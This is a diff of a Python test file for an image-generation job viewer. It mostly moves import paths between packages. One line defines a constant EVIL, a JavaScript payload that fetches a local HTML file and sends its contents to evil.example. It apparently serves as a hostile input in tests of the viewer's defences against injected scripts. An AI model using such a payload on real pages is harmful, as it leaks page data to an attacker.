@@ -15,11 +15,11 @@ from picture_folders import CLASSES, job_folder
 from starlette.testclient import TestClient
 
 from cluster.viewing import find_jobs, viewer_of
-from storage.formats import page as pages
-from storage.formats.page import SOURCE, Page, write_page
 from storage.pyramid import PyramidLayout
-from storage.viewer import own_page
-from storage.viewer.own_page import LARGEST_SCRIPT, SCRIPTS, page_of, rewritten
+from viewer import own_page
+from viewer import page as pages
+from viewer.own_page import LARGEST_SCRIPT, SCRIPTS, page_of, rewritten
+from viewer.page import SOURCE, Page, write_page
 
 EVIL = "fetch('../../cards.html').then((told) => told.text()).then((text) => { location = '//evil.example/' + text; })"
 
@@ -203,8 +203,8 @@ def test_a_package_that_is_not_whole_says_so_and_writes_nothing(
 
 
 def test_a_picture_that_ignores_its_prompt_is_said_to_be_unconditional(tmp_path: Path) -> None:
-    from cluster.outputs import about
-    from cluster.spec import JobSpec
+    from cluster.engine.outputs import about
+    from cluster.spec.fields import JobSpec
 
     spec = JobSpec(prompt="desert", width=64, height=64, out=tmp_path, guidance_scale=1.0)
     assert about(spec, "f")["guidanceScale"] == 1.0
